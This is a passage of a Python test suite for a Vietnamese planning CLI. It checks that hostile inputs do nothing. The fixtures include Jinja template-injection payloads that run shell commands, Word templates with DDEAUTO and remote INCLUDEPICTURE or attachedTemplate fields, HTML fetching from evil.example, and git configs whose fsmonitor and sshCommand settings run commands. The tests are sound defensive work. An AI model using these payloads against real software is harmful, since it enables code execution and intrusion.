    assert "Hội nghị quán triệt Chương trình số 18" in text
    assert not re.search("nghịquán|triệtChương|trìnhsố", text)


def test_ics_carries_no_control_characters(tmp_path):
    title = '"Hội nghị\\a quý\\f I\\v của\\x01 tỉnh\\e[2J xong\\r mới\\n dòng ' + "rất dài " * 20 + '"'
    path = write(tmp_path / "plan.yaml", small_plan(title=title))
    out = tmp_path / "x.ics"
    assert_no_crash(kh("calendar", "-p", path, "-o", out), codes=(0,))
    data = out.read_bytes()
    bad = sorted({b for b in data if b < 32 and b not in (9, 10, 13)} | ({127} & set(data)))
    assert not bad, [f"0x{b:02X}" for b in bad]
    lines = data.split(b"\r\n")
    assert all(b"\r" not in line and b"\n" not in line for line in lines), "a line not ended by CRLF"
    assert max(len(line) for line in lines) <= 75


# ================================================================ 5. templates from elsewhere run no code


def _payload(marker: Path) -> str:
    return (
        "{{ cycler.__init__.__globals__.os.popen('touch ' ~ '" + str(marker) + "').read() }}\n"
        "{{ lipsum.__globals__['os'].popen('touch " + str(marker) + "').read() }}\n"
        "{{ ''.__class__.__mro__[1].__subclasses__() }}\n"
    )


@pytest.fixture
def repo_with_templates(tmp_path) -> tuple[Path, Path]:
    """tmp_path/repo/plan.yaml (the demo) beside a templates/ folder holding a hostile
    report.md.j2; returns (plan, marker) — the marker file is made if the template ran code."""
    marker = tmp_path / "PWNED"
    plan = write(tmp_path / "repo" / "plan.yaml", DEMO.read_bytes())
    write(tmp_path / "repo" / "templates" / "report.md.j2", _payload(marker))
    return plan, marker


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes


def test_templates_beside_the_plan_are_not_used(repo_with_templates, tmp_path):
    plan, marker = repo_with_templates
    out = tmp_path / "out.md"
    proc = kh("report", "-p", plan, "--period", "Q2", "-f", "md", "-o", out)
    assert not marker.exists(), "the template beside the plan ran code"
    assert_no_crash(proc, codes=(0,))
    reference = write(tmp_path / "elsewhere" / "plan.yaml", DEMO.read_bytes())
    assert kh("report", "-p", reference, "--period", "Q2", "-f", "md", "-o", tmp_path / "ref.md").returncode == 0
    assert out.read_bytes() == (tmp_path / "ref.md").read_bytes(), "not the built-in template"


def test_templates_given_by_option_run_sandboxed(repo_with_templates, tmp_path):
    plan, marker = repo_with_templates
    folder = plan.parent / "templates"
    proc = kh("report", "-p", plan, "--period", "Q2", "-f", "md", "-o", tmp_path / "out.md", "--templates", folder)
    assert not marker.exists(), "the template given by --templates ran code"
    assert_no_crash(proc, codes=(1, 2))
    assert proc.stderr.strip(), "refused without a message"


def test_the_templates_folder_used_is_named(demo_copy, tmp_path):
    folder = tmp_path / "mau-rieng"
    write(folder / "report.md.j2", "BÁO CÁO RIÊNG {{ 1 + 1 }}\n")
    out = tmp_path / "out.md"
    proc = kh("report", "-p", demo_copy, "--period", "Q2", "-f", "md", "-o", out, "--templates", folder)
    assert_no_crash(proc, codes=(0,))
    assert out.read_text(encoding="utf-8").startswith("BÁO CÁO RIÊNG 2")
    assert "mau-rieng" in proc.stderr.decode("utf-8", "replace"), proc.stderr


def test_a_templates_folder_that_is_not_there_is_only_an_error(demo_copy, tmp_path):
    proc = kh("report", "-p", demo_copy, "--period", "Q2", "-f", "md", "-o", tmp_path / "r.md",
              "--templates", tmp_path / "khong-co")
    err = assert_no_crash(proc, codes=(2,))
    assert "khong-co" in err
    assert len(err.strip().splitlines()) == 1, f"said to be used, then missing: {err}"
    assert not (tmp_path / "r.md").exists()


# ================================================================ 6. writes


def test_a_stale_temporary_file_is_removed_by_the_next_log(tmp_path, kehoach):
    plan = write(tmp_path / "plan.yaml", small_plan())
    stale = write(tmp_path / ".plan.yaml.k3x_9qzt.tmp", "nửa chừng")  # named as tempfile.mkstemp names them
    theirs = write(tmp_path / ".plan.yaml.backup.tmp", "a user's own file, not ours")
    hour_ago = time.time() - 3600
    os.utime(stale, (hour_ago, hour_ago))
    code, _, err = kehoach("log", "t", "-p", plan, "--percent", "10", "-m", "x", "--date", "2021-03-01")
    assert code == 0, err
    assert not stale.exists(), "the stale temporary file of a killed write is still there"
    assert theirs.exists(), "a file not named as kehoach names its temporary files was removed"
    assert sorted(p.name for p in tmp_path.iterdir()) == [".plan.yaml.backup.tmp", "plan.yaml"]


def test_a_cr_only_plan_keeps_its_line_endings(tmp_path, kehoach):
    text = small_plan().replace("\n", "\r")
    plan = write(tmp_path / "plan.yaml", text)
    before = plan.read_bytes()
    code, _, err = kehoach("log", "t", "-p", plan, "--percent", "10", "-m", "ghi chú", "--date", "2021-03-01")
    assert code == 0, err
    after = plan.read_bytes()
    assert b"\n" not in after, "LF line endings mixed into a CR-only file"
    old, new = before.decode("utf-8").split("\r"), after.decode("utf-8").split("\r")
    ops = difflib.SequenceMatcher(a=old, b=new, autojunk=False).get_opcodes()
    assert all(op in ("equal", "insert") for op, *_ in ops), "a line of the plan was changed"
    added = [line for op, _, _, j1, j2 in ops if op == "insert" for line in new[j1:j2]]
    assert any("ghi chú" in line for line in added)
    assert kehoach("check", plan)[0] == 0


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes


def test_a_held_lock_gives_up_after_kehoach_lock_timeout(tmp_path):
    import fcntl

    plan = write(tmp_path / "plan.yaml", small_plan())
    before = plan.read_bytes()
    fd = os.open(tmp_path, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)  # another writer holds the plan's folder
        start = time.monotonic()
        proc = kh("log", "t", "-p", plan, "--percent", "10", "-m", "x", "--date", "2021-03-01",
                  env={"KEHOACH_LOCK_TIMEOUT": "0.5"})
        took = time.monotonic() - start
    finally:
        os.close(fd)
    both = assert_no_crash(proc, codes=(1, 2))
    assert took < 10, f"waited {took:.1f} s"
    assert "KEHOACH_LOCK_TIMEOUT" in both, both
    assert plan.read_bytes() == before


@pytest.mark.slow
def test_log_killed_at_any_moment_leaves_the_old_plan_or_the_new_one(tmp_path):
    """`kill -9` at 40 moments spread over a `log` run: the plan is always whole (the bytes before,
    or before plus the one entry), and the next `log` clears what a killed one left behind."""
    import random
    import signal

    plan = write(tmp_path / "plan.yaml", DEMO.read_bytes())
    before = plan.read_bytes()
    args = [sys.executable, "-m", "kehoach", "log", "IV.3.b", "--body", "bcsd-ubnd", "-p", str(plan),
            "--percent", "40", "-m", "đang làm", "--date", "2021-12-20"]
    start = time.monotonic()
    subprocess.run(args, env=env_for(), capture_output=True, check=True, timeout=TIMEOUT)
    took = time.monotonic() - start
    after = plan.read_bytes()
    assert after != before
    rng = random.Random(2021)
    outcomes = set()
    for _ in range(40):
        plan.write_bytes(before)
        proc = subprocess.Popen(args, env=env_for(), stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        time.sleep(rng.uniform(0, took * 1.2))
        proc.send_signal(signal.SIGKILL)
        proc.wait(timeout=TIMEOUT)
        now = plan.read_bytes()
        assert now in (before, after), "a killed log left a damaged plan"
        outcomes.add(now == after)
    plan.write_bytes(before)
    subprocess.run(args, env=env_for(), capture_output=True, check=True, timeout=TIMEOUT)
    assert plan.read_bytes() == after
    assert sorted(p.name for p in tmp_path.iterdir()) == ["plan.yaml"], "a killed write's temporary file is left"


# Another program does not take kehoach's lock. Whenever it writes, its change survives and the
# entry is refused (`log-changed`): the user runs the command again.

def _external_write_at(monkeypatch, moment: str, how: str, plan: Path, theirs: bytes, swap: bool) -> None:
    """Make another program write `theirs` into the plan just before or just after kehoach puts
    its new file in place: `in-place` (open and write, as a naive editor does) or `rename` (its
    own atomic save). `swap`: the system can swap two files in one step (else: a plain rename)."""
    from kehoach.base import files as writeback

    real_replace, real_exchange = os.replace, writeback.exchange
    kept: list[int] = []
    done: list[bool] = []

    def write_theirs() -> None:
        if how == "in-place":
            fd = kept[0] if kept else os.open(plan, os.O_WRONLY)
            os.lseek(fd, 0, 0)
            os.ftruncate(fd, 0)
            os.write(fd, theirs)
            if not kept:
                os.close(fd)
        else:
            other = plan.with_name("theirs.tmp")
            other.write_bytes(theirs)
            real_replace(other, plan)

    def around(put_in_place, src, dst):
        if done or Path(dst) != plan.resolve():
            return put_in_place(src, dst)
        done.append(True)
        if moment == "before":
            write_theirs()
            return put_in_place(src, dst)
        kept.append(os.open(plan, os.O_WRONLY))  # the old file, as the other program holds it open
        result = put_in_place(src, dst)
        write_theirs()
        os.close(kept.pop())
        return result

    monkeypatch.setattr(writeback.os, "replace", lambda src, dst: around(real_replace, src, dst))
    monkeypatch.setattr(writeback, "exchange", (lambda a, b: around(real_exchange, a, b)) if swap else
                        (lambda a, b: False))


@pytest.mark.parametrize("swap,moment,how", [
    (True, "before", "in-place"), (True, "before", "rename"), (True, "after", "in-place"),
    (False, "before", "in-place"), (False, "after", "in-place"),
])
def test_an_external_write_during_log_is_never_lost(swap, moment, how, tmp_path, monkeypatch):
    """Without a one-step swap, an atomic save by another program in the microseconds between
    kehoach's last check and its rename is the one case left (docs/security.md)."""
    from kehoach.life.log import LogError, append_progress

    plan = write(tmp_path / "plan.yaml", small_plan())
    theirs = small_plan(title="Việc một, sửa tay").encode("utf-8")
    _external_write_at(monkeypatch, moment, how, plan, theirs, swap)
    with pytest.raises(LogError) as refused:
        append_progress(plan, "t", {"date": "2021-03-01", "percent": 10, "note": "x"})
    assert refused.value.code == "log-changed"
    assert plan.read_bytes() == theirs, "the other program's change was lost"
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def test_log_swaps_the_plan_in_one_step_where_the_system_can(tmp_path):
    """The swap is real here (Linux, a local file system), not only in the tests above."""
    from kehoach.base.files import exchange
    from kehoach.life.log import append_progress

    probe_a, probe_b = write(tmp_path / "a", "A"), write(tmp_path / "b", "B")
    if not exchange(probe_a, probe_b):
        pytest.skip("this system or file system cannot swap two files in one step (RENAME_EXCHANGE)")
    assert (probe_a.read_text(), probe_b.read_text()) == ("B", "A")
    plan = write(tmp_path / "plan.yaml", small_plan())
    append_progress(plan, "t", {"date": "2021-03-01", "percent": 10, "note": "x"})
    assert "percent: 10" in plan.read_text(encoding="utf-8")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "b", "plan.yaml"]


# ================================================================ 7. ids folded alike collide


def test_task_ids_differing_only_in_case_collide(tmp_path, run_check_cli):
    text = plan_yaml(task_yaml("II.1.a"), task_yaml("ii.1.a"))
    path = write(tmp_path / "plan.yaml", text)
    code, out, _ = run_check_cli(path)
    assert code == 1, out
    assert re.search(rf"^{re.escape(str(path))}:{line_of(text, 'id: ii.1.a')}:\d+: lỗi", out, re.M), out


def test_subtask_id_colliding_with_a_task_id_by_case(tmp_path, run_check_cli):
    text = plan_yaml(task_yaml("II.1", subtasks=[task_yaml("II.1.a")]), task_yaml("II.1.A"))
    path = write(tmp_path / "plan.yaml", text)
    code, out, _ = run_check_cli(path)
    assert code == 1, out
    assert re.search(rf"^{re.escape(str(path))}:{line_of(text, 'id: II.1.A')}:\d+: lỗi", out, re.M), out


def test_body_ids_differing_only_in_case_collide(tmp_path, run_check_cli):
    bodies = ("  - {id: so-noi-vu, name: Sở Nội vụ, kind: state}\n"
              "  - {id: So-Noi-Vu, name: Sở Nội vụ (2), kind: state}\n"
              "  - {id: a, name: Ban A, kind: party}\n")
    text = plan_yaml(task_yaml("t", lead="so-noi-vu"), bodies=bodies)
    path = write(tmp_path / "plan.yaml", text)
    code, out, _ = run_check_cli(path)
    assert code == 1, out
    assert re.search(rf"^{re.escape(str(path))}:{line_of(text, 'So-Noi-Vu')}:\d+: lỗi", out, re.M), out


# ================================================================ 8. docs/security.md


@pytest.mark.slow  # a second or more: CI runs it (.ci/run); -m 'not slow' stays well under 3 minutes


def test_every_promise_in_docs_security_names_a_test_that_exists():
    """In each table of promises (a "proved by" column), every row names a test, and each test
    named is in the file named before it (or, with no file, in some test file)."""
    import ast

    defined: dict[str, set[str]] = {}
    for path in (ROOT / "tests").glob("test_*.py"):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        defined[f"tests/{path.name}"] = {n.name for n in ast.walk(tree)
                                         if isinstance(n, (ast.FunctionDef, ast.ClassDef))}
    doc = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    tables = re.findall(r"(?m)((?:^\|.*\n)+)", doc)
    promise_rows = [row for table in tables if "proved by" in table.splitlines()[0]
                    for row in table.splitlines()[2:]]
    assert len(promise_rows) >= 40, f"only {len(promise_rows)} promises"
    for row in promise_rows:
        named = list(re.finditer(r"(tests/test_\w+\.py)|`(test_\w+|Test\w+)(?:::(\w+))?`", row))
        assert any(m.group(2) for m in named), f"a promise that names no test: {row[:120]}"
        current = None
        for m in named:
            if m.group(1):
                current = m.group(1)
                assert current in defined, f"{current} (docs/security.md) does not exist"
                continue
            files = [current] if current else list(defined)
            for name in filter(None, (m.group(2), m.group(3))):
                assert any(name in defined[f] for f in files), f"{name} ({current}) in docs/security.md is not a test"


# ---------------------------------------------------------------- invisible and reordering characters (issue 20)

INVISIBLE = {
    "arabic-letter-mark": "\u061c",  # a Bidi_Control the first pass missed
    "zero-width-space": "\u200b",
    "zero-width-non-joiner": "\u200c",
    "zero-width-joiner": "\u200d",
    "word-joiner": "\u2060",
    "bom-inside-text": "\ufeff",
    "tag-letter": "\U000e0041",  # TAG LATIN CAPITAL LETTER A: words a reader never sees
    "cancel-tag": "\U000e007f",
    "tag-space": "\U000e0020",
}


def _escape(ch: str) -> str:
    return f"\\u{ord(ch):04x}" if ord(ch) < 0x10000 else f"\\U{ord(ch):08x}"


@pytest.mark.parametrize("ch", list(INVISIBLE.values()), ids=list(INVISIBLE))
def test_an_invisible_character_is_flagged_where_it_stands(ch, tmp_path, run_check_cli):
    """`check` warns at the value's line and column as for any control character (`unprintable-char`),
    naming it by its escape; the diagnostics carry it only as that escape."""
    text = small_plan(title=f"Việc{ch}một")
    path = write(tmp_path / "plan.yaml", text)
    code, out, err = run_check_cli(path)
    assert code == 0, out + err
    line = line_of(text, "title: Việc")
    col = text.split("\n")[line - 1].index("Việc") + 1
    located = f"{path}:{line}:{col}: cảnh báo: "
    flagged = [x for x in out.splitlines() if x.startswith(located) and x.endswith("[unprintable-char]")]
    assert flagged and _escape(ch) in flagged[0], out
    assert ch not in out + err, "the invisible character reached the terminal raw"


def test_invisible_characters_are_shown_as_escapes_and_left_out_of_documents(tmp_path, capsys, monkeypatch):
    """On a terminal (`status`) each is an escape; in JSON an escape that reads back as the same text
    (a tag character as its surrogate pair); in Markdown taken out, the words kept."""
    import json

    from kehoach.cli.app import main

    monkeypatch.delenv("KEHOACH_LANG", raising=False)
    hidden = "".join(INVISIBLE.values())
    title = f"Việc{hidden}một"
    path = write(tmp_path / "plan.yaml", small_plan(title=json.dumps(title, ensure_ascii=False)))
    capsys.readouterr()
    assert main(["status", "-p", str(path), "--as-of", "2021-07-01"]) == 0
    out = capsys.readouterr().out
    assert "Việc" in out and not [c for c in INVISIBLE.values() if c in out], out
    assert all(_escape(c) in out for c in INVISIBLE.values()), out
    assert main(["status", "-p", str(path), "--as-of", "2021-07-01", "--format", "json"]) == 0
    out = capsys.readouterr().out
    assert not [c for c in INVISIBLE.values() if c in out]
    assert "\\udb40\\udc41" in out and title in json.dumps(json.loads(out), ensure_ascii=False)
    assert main(["status", "-p", str(path), "--as-of", "2021-07-01", "--format", "markdown"]) == 0
    out = capsys.readouterr().out
    assert "Việcmột" in out and not [c for c in INVISIBLE.values() if c in out]


def test_a_library_warning_is_printed_escaped(capsys):
    """openpyxl printed a workbook's text (RLO, a C1 CSI) raw to stderr in its warnings: the command
    line's `warnings.showwarning` (text.show_warning) shows it escaped, on one line."""
    import warnings

    from kehoach.base.text import show_warning

    with warnings.catch_warnings():
        warnings.simplefilter("always")
        warnings.showwarning = show_warning
        warnings.warn("Sheet 'a\u202eb\x9b2J\x1b]0;x\x07\u200b\U000e0041'\nnext", UserWarning, stacklevel=1)
    err = capsys.readouterr().err
    assert err.count("\n") == 1, err
    for ch in ("\u202e", "\x9b", "\x1b", "\x07", "\u200b", "\U000e0041"):
        assert ch not in err, f"raw U+{ord(ch):04X}"
    assert "\\u202e" in err and "\\x9b" in err and "\\U000e0041" in err and "UserWarning" in err


# ---------------------------------------------------------------- a repository from outside


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.email=a@b", "-c", "user.name=a", *args], cwd=cwd, check=True,
                   capture_output=True)


@pytest.mark.slow  # about a second
@pytest.mark.skipif(not __import__("shutil").which("git"), reason="git is not installed")
def test_a_plan_folder_with_its_own_git_settings_runs_no_command_of_theirs(tmp_path):
    """A plan folder copied in with its `.git` (a zip, a USB stick): `request` asks git whether
    the signing key is ignored, and `diff REV:PATH` reads a revision; neither may run the
    repository's `core.fsmonitor` command, nor fetch a missing object through its ssh command."""
    trace = tmp_path / "ran"
    folder = tmp_path / "g1"
    folder.mkdir()
    write(folder / "plan.yaml", DEMO.read_text(encoding="utf-8"))
    _git(folder, "init", "-q", ".")
    _git(folder, "add", "plan.yaml")
    _git(folder, "commit", "-qm", "init")
    _git(folder, "config", "core.fsmonitor", f"echo FSMONITOR >> {trace}; false")
    proc = kh("request", "-p", folder / "plan.yaml", "--period", "Q3", "--body", "so noi vu", "-o",
              folder / "phieu", cwd=folder)
    assert_no_crash(proc, codes=(0,))
    assert not trace.exists(), trace.read_text()

    other = tmp_path / "g2"
    other.mkdir()
    write(other / "other.yaml", "x: 1\n")
    _git(other, "init", "-q", ".")
    _git(other, "add", "other.yaml")
    _git(other, "commit", "-qm", "one")
    blob = subprocess.run(["git", "rev-parse", "HEAD:other.yaml"], cwd=other, capture_output=True,
                          text=True, check=True).stdout.strip()
    (other / ".git" / "objects" / blob[:2] / blob[2:]).unlink()
    for key, value in (("core.repositoryformatversion", "1"), ("extensions.partialClone", "origin"),
                       ("remote.origin.url", "ssh://evil.example/x"), ("remote.origin.promisor", "true"),
                       ("core.sshCommand", f"sh -c 'echo SSH >> {trace}; exit 1'")):
        _git(other, "config", key, value)
    proc = kh("diff", "HEAD:other.yaml", "other.yaml", "--lang", "en", cwd=other)
    assert proc.returncode == 2
    assert not trace.exists(), trace.read_text()


# ---------------------------------------------------------------- what a template folder makes


def _word_template(tmp_path: Path, document=None, extra: dict[str, bytes] | None = None, settings=None) -> Path:
    """A copy of the built-in report.docx in a user's template folder, its parts changed."""
    folder = tmp_path / "mau"
    folder.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(ROOT / "templates" / "report.docx") as src, \
            zipfile.ZipFile(folder / "report.docx", "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item.filename)
            if item.filename == "word/document.xml" and document:
                data = document(data)
            if item.filename == "word/settings.xml" and settings:
                data = settings(data)
            dst.writestr(item, data)
        for name, data in (extra or {}).items():
            dst.writestr(name, data)
    return folder


@pytest.mark.slow  # a Word report for each shape: a second each
@pytest.mark.parametrize("shape", ["dde", "split-field", "includepicture", "attached-template"])
def test_a_word_template_from_outside_cannot_make_a_document_that_acts_on_word(tmp_path, shape):
    """A user's Word template with a DDE field (runs a program when the document opens), a field
    split over runs, a picture fetched from the network, a remote attached template or macros:
    the report made from it carried them all (exit 0). Now it is refused and nothing written; a
    copy of the built-in template in the same folder still makes the report."""
    body = {
        "dde": (b'<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/c calc&quot;"><w:r><w:t>x</w:t></w:r>'
                b'</w:fldSimple></w:p>'),
        "split-field": (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DD</w:instrText></w:r>'
                        b'<w:r><w:instrText>EAUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
                        b'</w:r></w:p>'),
        "includepicture": (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
                           b'"http://evil.example/t.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
                           b'</w:r></w:p>'),
    }.get(shape)
    extra, settings = {}, None
    if shape == "attached-template":
        settings = lambda d: d.replace(b"<w:zoom", b'<w:attachedTemplate r:id="rIdEvil"/><w:zoom', 1)  # noqa: E731
        extra = {"word/_rels/settings.xml.rels": (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxml'
            b'formats.org/package/2006/relationships"><Relationship Id="rIdEvil" Type="http://schemas.openxml'
            b'formats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" '
            b'TargetMode="External"/></Relationships>')}
    if shape == "macros":
        extra = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"}
    folder = _word_template(tmp_path, (lambda d: d.replace(b"<w:body>", b"<w:body>" + body, 1)) if body else None,
                            extra, settings)
    out = tmp_path / "r.docx"
    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", folder)
    assert_no_crash(proc, codes=(1,))
    assert "[template-active]" in text_of(proc) or "không ghi" in text_of(proc), text_of(proc)
    assert not out.exists()
    plain = _word_template(tmp_path / "plain")
    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", plain)
    assert_no_crash(proc, codes=(0,))


def test_a_page_from_a_users_html_template_is_locked_as_the_built_in_ones(tmp_path):
    """A user's report.html.j2 may hold a script and leave out the built-in pages' policy: the page
    it made ran the script. Now the policy is set first (after the doctype), before anything of the
    template's, so no script runs and nothing is fetched."""
    folder = tmp_path / "mau"
    write(folder / "report.html.j2", '<!DOCTYPE html>\n<html><body><script>fetch("http://evil.example/")</script>'
                                     "{{ doc.summary }}</body></html>")
    out = tmp_path / "r.html"
    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "html", "-o", out, "--templates", folder)
    assert_no_crash(proc, codes=(0,))
    page = out.read_text(encoding="utf-8")
    assert page.startswith("<!DOCTYPE html><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none';")
    assert page.index("Content-Security-Policy") < page.index("<script>")


@pytest.mark.slow  # about half a second or more here: CI runs it (.ci/run)
def test_macros_in_a_word_template_never_reach_the_document(tmp_path):
    """A template carrying a macro project: the document made from it holds none (a .docx runs no
    macro, and the part is not carried)."""
    folder = _word_template(tmp_path, extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"})
    out = tmp_path / "r.docx"
    proc = kh("report", "-p", DEMO, "--period", "Q2", "-f", "docx", "-o", out, "--templates", folder)
    assert_no_crash(proc, codes=(0, 1))
    if out.exists():
        with zipfile.ZipFile(out) as z:
            assert not [n for n in z.namelist() if "vba" in n.lower()]


def test_the_word_screen_reads_attributes_in_either_quote_and_fields_in_any_case():
    """`w:instr='INCLUDETEXT …'` and `TargetMode='External'` (single quotes) passed the screen; a
    page number written `page` was refused."""
    import io

    from kehoach.outputs.render import active_content

    def docx(document: bytes, rels: bytes = b"") -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("word/document.xml", b'<w:document xmlns:w="http://schemas.openxmlformats.org/'
                       b'wordprocessingml/2006/main"><w:body>' + document + b"</w:body></w:document>")
            if rels:
                z.writestr("word/_rels/document.xml.rels", b'<Relationships xmlns="http://schemas.openxmlformats'
                           b'.org/package/2006/relationships">' + rels + b"</Relationships>")
        return out.getvalue()

    assert active_content(docx(b"<w:fldSimple w:instr='INCLUDETEXT \"c:/x.docx\"'/>")) is not None
    assert active_content(docx(b"<w:p/>", b"<Relationship Id='r1' Type='http://x/attachedTemplate' "
                                         b"Target='http://evil.example/t.dotm' TargetMode='External'/>")) is not None
    assert active_content(docx(b"<w:instrText xml:space='preserve'> page </w:instrText>")) is None
    assert active_content(docx(b"<w:p/>", b"<Relationship Id='r1' Type='http://x/hyperlink' "
                                         b"Target='https://quangngai.gov.vn' TargetMode='External'/>")) is None


def test_the_word_screen_reads_the_xml_not_its_spelling():
    """A template naming WordprocessingML by another prefix (`<q:instrText xmlns:q="…/main">
    INCLUDEPICTURE …`, `q:instr="DDEAUTO …"`, `<q:altChunk>`) or putting a field's words in CDATA
    passed the screen and reached the document (found by the hostile review)."""
    import io

    from kehoach.outputs.render import active_content

    w = b"http://schemas.openxmlformats.org/wordprocessingml/2006/main"

    def docx(body: bytes) -> bytes:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as z:
            z.writestr("word/document.xml", b'<w:document xmlns:w="' + w + b'"><w:body>' + body
                       + b"</w:body></w:document>")
        return out.getvalue()

    assert active_content(docx(b'<w:p><w:r><q:instrText xmlns:q="' + w + b'"> INCLUDEPICTURE "http://e.x/a.png"'
                               b" </q:instrText></w:r></w:p>")) is not None
    assert active_content(docx(b'<w:p><w:fldSimple xmlns:q="' + w + b'" q:instr=" DDEAUTO c:\\x "/></w:p>')) \
        is not None
    assert active_content(docx(b'<q:altChunk xmlns:q="' + w + b'"/>')) is not None
    assert active_content(docx(b"<w:p><w:r><w:instrText><![CDATA[ INCLUDEPICTURE \"http://e.x/a\" ]]>"
                               b"</w:instrText></w:r></w:p>")) is not None
    assert active_content(docx(b"<w:p><w:r><w:instrText><![CDATA[ PAGE ]]></w:instrText></w:r></w:p>")) is None


def test_a_users_html_template_cannot_send_the_reader_elsewhere():
    """`<meta http-equiv="refresh" content="0;url=https://evil.example">` in a user's HTML
    template stayed after the content policy, which has no word for it: opening the report left
    for the other site."""
    from kehoach.outputs.render import locked_html

    page = locked_html(b'<!doctype html><html><head><META HTTP-EQUIV="Refresh" content="0;url=https://e.x/">'
                       b"</head><body>x</body></html>")
    assert b"Content-Security-Policy" in page and page.lower().count(b" http-equiv") == 1
